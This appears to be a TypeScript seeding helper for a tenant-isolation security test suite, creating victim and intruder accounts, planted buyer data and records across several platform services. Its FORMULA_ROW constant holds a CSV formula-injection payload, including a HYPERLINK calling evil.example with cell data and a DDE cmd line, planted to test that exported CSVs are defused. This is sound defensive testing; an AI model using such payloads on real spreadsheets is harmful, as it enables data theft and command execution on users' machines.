import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import request from 'supertest';
import { waitFor } from '@crp/testing/wait';
import type { ServiceName, Stack } from '../support/stack';

/**
 * The accounts of the tenant-isolation matrix. The victims own records in every service; the
 * intruder owns its own and tries to reach theirs.
 *  - A (`tenant-a`): a merchant with a Shopify store (synced), orders, customers, an order CSV
 *    import, a customer CSV dry run, a carrier account, a rule and a delegated order; a client of
 *    the 3PL P (active) and invited by the 3PL Q (pending).
 *  - P, Q: 3PLs (`tenant-p`, `tenant-q`).
 *  - B (`tenant-b`): the intruder, an admin of its own account with a manual order of its own.
 */
export const A = 'tenant-a';
export const P = 'tenant-p';
export const Q = 'tenant-q';
export const B = 'tenant-b';
export const VICTIMS = [A, P, Q] as const;

/** Planted personal data of A's buyer: none of these strings may ever reach B. */
export const A_BUYER = {
  email: 'zebulon.tenanta@a-shop.example',
  name: 'Zebulon Tenanta',
  phone: '+44 20 7946 0457',
};

/** The intruder's own buyer. */
export const B_BUYER = {
  email: 'bertha@b-shop.example',
  name: 'Bertha Tenantb',
  phone: '+44 20 7946 0999',
};

export interface World {
  storeId: string;
  syncJobId: string;
  orderId: string;
  customerId: string;
  /** Another customer of A's (from the Shopify sync): merges name two. */
  otherCustomerId: string;
  importJobId: string;
  dryRunJobId: string;
  activeConnectionId: string;
  pendingConnectionId: string;
  pendingToken: string;
  carrierAccountId: string;
  ruleId: string;
  /** A's privacy request (an export, fulfilled: it blocks nothing). */
  privacyRequestId: string;
  /** Strings that belong to the victims' records only. */
  markers: string[];
}

export const SHOPIFY_TOKEN = 'shpat_tenant_a_0123456789';
export const SHOPIFY_SECRET = 'tenant-a-shopify-app-secret';

export function manualOrder(n: string, buyer: { email: string; name: string; phone: string }) {
  return {
    orderNumber: `SEC-${n}`,
    orderKey: `sec-${n}`,
    orderDate: '2026-11-20T10:00:00.0000000',
    orderStatus: 'awaiting_shipment',
    customerUsername: buyer.email,
    customerEmail: buyer.email,
    billTo: { name: buyer.name, company: null, phone: buyer.phone },
    shipTo: {
      name: buyer.name,
      street1: '1 Isolation Row',
      city: 'London',
      postalCode: 'NW1 6XE',
      country: 'GB',
      phone: buyer.phone,
    },
    items: [{ sku: 'SEC-1', quantity: 1, unitPrice: 10 }],
    orderTotal: 10,
  };
}

type Method = 'get' | 'post' | 'put' | 'patch' | 'delete';

/** Longest a seeding request may take before it fails with its route (MariaDB under load: seconds). */
const REQUEST_TIMEOUT_MS = 60_000;

export function caller(stack: Stack) {
  return async (service: ServiceName, account: string, method: Method, path: string, body?: unknown) => {
    const r = request(stack.app(service))
      [method](path)
      .set('Authorization', await stack.auth(account))
      // A request that never answers fails naming itself, instead of holding the whole setup.
      .timeout({ response: REQUEST_TIMEOUT_MS });
    return body === undefined ? r : r.send(body as object);
  };
}

function mailsTo(mailDir: string): string[] {
  return readdirSync(mailDir)
    .filter((f) => f.endsWith('.eml'))
    .map((f) =>
      readFileSync(join(mailDir, f), 'utf8')
        .replace(/=\r?\n/g, '')
        .replace(/=([0-9A-F]{2})/g, (_, h: string) => String.fromCharCode(parseInt(h, 16))),
    );
}

function ok<T extends { status: number; body: unknown; text?: string }>(
  res: T,
  what: string,
  status = 200,
): T {
  if (res.status !== status)
    throw new Error(`seeding: ${what} answered ${res.status}, not ${status}: ${res.text ?? ''}`);
  return res;
}

/** Seeds the victims' records through the public APIs, as users would, and the intruder's own. */
export async function seedWorld(stack: Stack, step: (what: string) => void = () => {}): Promise<World> {
  const call = caller(stack);
  const tpl = 'tpl-connection-service' as const;
  const ord = 'order-ingest-service' as const;

  step('3PL directory and invitations');
  // 3PL connections (SPEC §5): A's admin has used the platform, so the directory knows its email.
  for (const acct of [A, P, Q, B]) ok(await call(tpl, acct, 'get', '/v1/connections'), 'directory');
  const invite = async (tplAccount: string, company: string) =>
    ok(
      await call(tpl, tplAccount, 'post', '/v1/clients', {
        email: `admin@${A}.example`,
        clientName: 'Tenant A',
        companyName: company,
      }),
      `${tplAccount} invites A`,
      201,
    ).body.connectionId as string;
  const activeConnectionId = await invite(P, 'P Logistics');
  const pendingConnectionId = await invite(Q, 'Q Logistics');
  const tokenFrom = (company: string) =>
    waitFor(
      () => {
        const mail = mailsTo(stack.mailDir).find((m) => m.includes(`Subject: ${company} invites you`));
        return mail ? /[?&]token=([A-Za-z0-9._-]+)/.exec(mail)?.[1] : undefined;
      },
      { timeoutMs: 30000, what: `the invitation e-mail of ${company}` },
    );
  step('invitation e-mails');
  const activeToken = await tokenFrom('P Logistics');
  const pendingToken = await tokenFrom('Q Logistics');
  ok(
    await call(tpl, A, 'post', '/v1/invitations/accept', { token: activeToken, confirm: true }),
    'A accepts P',
  );
  const carrierAccountId = ok(
    await call(tpl, A, 'post', '/v1/carrier-accounts', { carrierCode: 'ups', services: ['ups_ground'] }),
    'carrier account',
    201,
  ).body.carrierAccountId as string;

  step('Shopify store and its first sync');
  // Stores and orders: a Shopify store synced from the fake shop, and a manual order.
  const storeId = ok(
    await call(ord, A, 'post', '/v1/stores', {
      channel: 'shopify',
      name: 'Tenant A Shopify',
      credentials: { accessToken: SHOPIFY_TOKEN, apiSecret: SHOPIFY_SECRET },
      settings: { shop: 'tenant-a.myshopify.com', initialSyncFrom: '2000-01-01T00:00:00Z' },
    }),
    'store',
    201,
  ).body.storeId as string;
  const syncJobId = ok(await call(ord, A, 'post', `/v1/stores/${storeId}/sync`), 'sync', 202).body
    .jobId as string;
  await waitFor(
    async () => {
      const res = await call(ord, A, 'get', `/v1/stores/${storeId}/syncs/${syncJobId}`);
      if (res.body.status === 'failed') throw new Error(`sync failed: ${res.text}`);
      return res.body.status === 'succeeded';
    },
    { timeoutMs: 30000, what: "A's first sync" },
  );
  step('manual order and its customer');
  const orderId = ok(
    await call(ord, A, 'post', '/v1/orders', manualOrder('a1', A_BUYER)),
    'manual order',
    201,
  ).body.orderId as string;
  const [customer] = await waitFor(
    async () => {
      const res = await call('customer-service', A, 'get', `/v1/customers?email=${A_BUYER.email}`);
      return res.body.customers?.length ? (res.body.customers as Array<{ customerId: string }>) : undefined;
    },
    { timeoutMs: 30000, what: "A's customer" },
  );
  const otherCustomerId = await waitFor(
    async () => {
      const res = await call('customer-service', A, 'get', '/v1/customers');
      return (res.body.customers as Array<{ customerId: string }> | undefined)?.find(
        (c) => c.customerId !== customer!.customerId,
      )?.customerId;
    },
    { timeoutMs: 30000, what: "A's customers from the Shopify sync" },
  );
  step('automation rule and delegation (A ↔ P heard by order-ingest)');
  // A rule and a delegation need order-ingest to have heard that A ↔ P is active.
  const ruleId = await waitFor(
    async () => {
      const res = await call(ord, A, 'post', '/v1/automation-rules', {
        name: 'Shopify to P',
        match: { storeId },
        action: { type: 'set_fulfillment_provider', providerAccountId: P },
      });
      return res.status === 201 ? (res.body.ruleId as string) : undefined;
    },
    { timeoutMs: 30000, what: 'the A ↔ P connection in order-ingest' },
  );
  ok(
    await call(ord, A, 'post', `/v1/orders/${orderId}/fulfillment-provider`, { providerAccountId: P }),
    'delegation',
    201,
  );

  step('CSV imports');
  // CSV imports: the order template (its example rows), and a customer dry run.
  const csv = 'csv-import-service' as const;
  const template = (await call(csv, A, 'get', '/v1/imports/templates/orders.csv')).text;
  const upload = async (kind: string, file: string, fields: Record<string, string> = {}) => {
    let r = request(stack.app(csv))
      .post('/v1/imports')
      .set('Authorization', await stack.auth(A))
      .field('kind', kind);
    for (const [k, v] of Object.entries(fields)) r = r.field(k, v);
    return ok(await r.attach('file', Buffer.from(file), `${kind}.csv`), `${kind} import`, 202).body
      .jobId as string;
  };
  // …plus a row the import rejects, whose cells a spreadsheet would run: errors.csv echoes them.
  const importJobId = await upload('orders', `${template.replace(/\r?\n$/, '')}\r\n${FORMULA_ROW}\r\n`);
  const dryRunJobId = await upload(
    'customers',
    `Email,Full Name,Phone\n${A_BUYER.email},${A_BUYER.name},${A_BUYER.phone}\n`,
    { dryRun: 'true' },
  );
  await waitFor(
    async () => {
      const res = await call(csv, A, 'get', `/v1/imports/${importJobId}`);
      return ['completed', 'failed'].includes(res.body.status);
    },
    { timeoutMs: 30000, what: "A's order import" },
  );

  step('privacy request');
  // A privacy request of A's (R2.10): an export, fulfilled at once.
  const privacyRequestId = ok(
    await call('customer-service', A, 'post', '/v1/privacy-requests', {
      type: 'export',
      customerId: otherCustomerId,
      basis: 'gdpr',
    }),
    "A's privacy request",
    201,
  ).body.request.requestId as string;

  step("the intruder's order");
  // The intruder's own data: a manual order (its buyer is not A's).
  ok(await call(ord, B, 'post', '/v1/orders', manualOrder('b1', B_BUYER)), "B's order", 201);

  return {
    storeId,
    syncJobId,
    orderId,
    customerId: customer!.customerId,
    otherCustomerId,
    importJobId,
    dryRunJobId,
    activeConnectionId,
    pendingConnectionId,
    pendingToken,
    carrierAccountId,
    ruleId,
    privacyRequestId,
    markers: [
      A,
      P,
      Q,
      `admin@${A}.example`,
      A_BUYER.email,
      A_BUYER.name,
      storeId,
      syncJobId,
      orderId,
      customer!.customerId,
      otherCustomerId,
      importJobId,
      dryRunJobId,
      activeConnectionId,
      pendingConnectionId,
      carrierAccountId,
      ruleId,
      pendingToken,
      privacyRequestId,
    ],
  };
}

/** Cells a spreadsheet would run as formulas (CWE-1236), planted in A's order CSV. */
export const FORMULA_ROW = `"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",+cmd|' /C calc'!A0,@SUM(1+1)`;

/** Ids the platform makes (`newId`: prefix, 12 base-36 time digits, 10 hex). */
export const GENERATED_ID = /\b[a-z]{2,8}_[0-9a-z]{12}[0-9a-f]{10}\b/g;
